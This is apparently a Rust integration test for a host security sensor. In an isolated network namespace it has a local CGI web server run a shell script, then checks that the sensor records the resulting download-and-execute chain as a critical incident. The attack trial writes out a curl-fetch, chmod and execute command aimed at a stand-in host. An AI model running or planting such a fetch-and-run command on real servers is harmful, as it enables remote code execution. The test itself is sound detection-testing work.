//! Incidents, end to end: a real server that is made to run a real shell, in a network of its own
//! where an address that looks public is next door.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Stdio};

use libtest_mimic::Trial;
use serde_json::Value;

use crate::harness::{Group, copy_program, shared, trial};

pub(crate) fn trials() -> Vec<Trial> {
    vec![
        trial("root::incidents::a_shell_fetches_a_program_and_runs_it", attack),
        trial("root::incidents::a_server_that_only_serves_is_none", ordinary),
    ]
}

/// Gives the network an address beside loopback, starts one server there and one on loopback, asks
/// the latter for what it is told to, and waits to be ended.
const DRIVE: &str = r#"
import fcntl, socket, struct, subprocess, sys, time, urllib.request
control = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
fcntl.ioctl(control, 0x8914, struct.pack('16sH22x', b'lo', 0x41))
far = socket.inet_aton('203.0.113.9')
fcntl.ioctl(control, 0x8916, struct.pack('16sH2x4s16x', b'lo:1', socket.AF_INET, far))
directory, wanted = sys.argv[1:]
for where, port in ('203.0.113.9', 9000), ('127.0.0.1', 8000):
    subprocess.Popen([sys.executable, '-m', 'http.server', '--cgi', '--bind', where, str(port)],
                     cwd=directory, stdout=subprocess.DEVNULL)
    for _ in range(500):
        try: socket.create_connection((where, port)).close(); break
        except OSError: time.sleep(0.02)
urllib.request.urlopen('http://127.0.0.1:8000' + wanted).read()
print('asked', flush=True)
time.sleep(600)
"#;

fn drive(dir: &Path, wanted: &str) -> Group {
    let mut command = Command::new("unshare");
    command.args(["--net", "python3", "-c", DRIVE]).arg(dir).arg(wanted);
    let mut group = Group::start(command.stdout(Stdio::piped()).stderr(Stdio::null()));
    let mut asked = [0; 6];
    let out = group.child.stdout.as_mut().unwrap();
    std::io::Read::read_exact(out, &mut asked).unwrap();
    assert_eq!(&asked, b"asked\n");
    group
}

/// A directory that is served, and that somebody else's programs may write to.
fn served() -> tempfile::TempDir {
    let dir = tempfile::Builder::new().tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    fs::create_dir(dir.path().join("cgi-bin")).unwrap();
    for path in [dir.path(), &dir.path().join("cgi-bin")] {
        fs::set_permissions(path, fs::Permissions::from_mode(0o777)).unwrap();
    }
    dir
}

fn kinds(record: &Value) -> Vec<&str> {
    let stages = record["incident"]["stages"].as_array();
    stages.into_iter().flatten().filter_map(|stage| stage["kind"].as_str()).collect()
}

/// Whether an incident has to do with a process below one.
fn is_of(incident: &Value, pids: &[Value]) -> bool {
    let stages = incident["incident"]["stages"].as_array();
    stages.into_iter().flatten().any(|stage| pids.contains(&stage["pid"]))
}

/// The servers that were started below a process.
fn servers(records: &[Value], above: u32) -> Vec<Value> {
    let is_server =
        |r: &&Value| r["recipe"]["name"] == "webserver_exec" && crate::harness::is_below(r, above);
    records.iter().filter(is_server).map(|r| r["process"]["pid"].clone()).collect()
}

fn attack() {
    let sensor = shared();
    let mark = sensor.mark();
    let dir = served();
    let script = dir.path().join("cgi-bin/run.sh");
    let text = "#!/bin/sh\n\
                curl -s -o fetched http://203.0.113.9:9000/program; chmod 755 fetched; ./fetched\n\
                echo; echo done\n";
    fs::write(&script, text).unwrap();
    fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
    copy_program("/bin/true", dir.path().join("program"), "644");
    let group = drive(dir.path(), "/cgi-bin/run.sh");
    let above = group.child.id();
    sensor.barrier();
    let pids = servers(&sensor.since(mark), above);
    let all = ["child", "outbound", "transferred", "written_file"];
    let last = sensor.wait_for("the whole incident", |r| {
        let kinds = kinds(r);
        is_of(r, &pids) && all.iter().all(|kind| kinds.contains(kind))
    });
    assert_eq!(kinds(&last)[..3], ["server_started", "listens", "child"], "{last:#}");
    assert_eq!(last["severity"], "critical");
    let [peer] = &last["incident"]["peers"].as_array().unwrap()[..] else { panic!("{last:#}") };
    assert_eq!((&peer["address"], &peer["port"]), (&"203.0.113.9".into(), &9000.into()));
    assert!(peer["bytes_received"].as_u64().unwrap() > 10_000, "{peer}");
    // Detections of the server and of its shell carry the incident's id.
    let joined = |r: &&Value| r["type"] == "detection" && r["incident"] == last["id"];
    let records = sensor.since(mark);
    let names: Vec<&str> =
        records.iter().filter(joined).filter_map(|r| r["recipe"]["name"].as_str()).collect();
    for name in ["webserver_exec", "webserver_shell_spawn", "webserver_download"] {
        assert!(names.contains(&name), "{names:?}");
    }
    // One stream: each update brings something.
    let stream = records.iter().filter(|r| r["id"] == last["id"]).map(|r| kinds(r).len());
    assert!(stream.collect::<Vec<_>>().is_sorted_by(|a, b| a < b));
}

fn ordinary() {
    let sensor = shared();
    let mark = sensor.mark();
    let dir = served();
    fs::write(dir.path().join("page"), "hello").unwrap();
    let group = drive(dir.path(), "/page");
    sensor.barrier();
    let records = sensor.since(mark);
    let pids = servers(&records, group.child.id());
    assert_eq!(pids.len(), 2, "{pids:?}");
    assert!(!records.iter().any(|r| is_of(r, &pids)));
    let detections = records.iter().filter(|r| pids.contains(&r["process"]["pid"]));
    assert!(detections.into_iter().all(|r| r["incident"].is_string()));
}
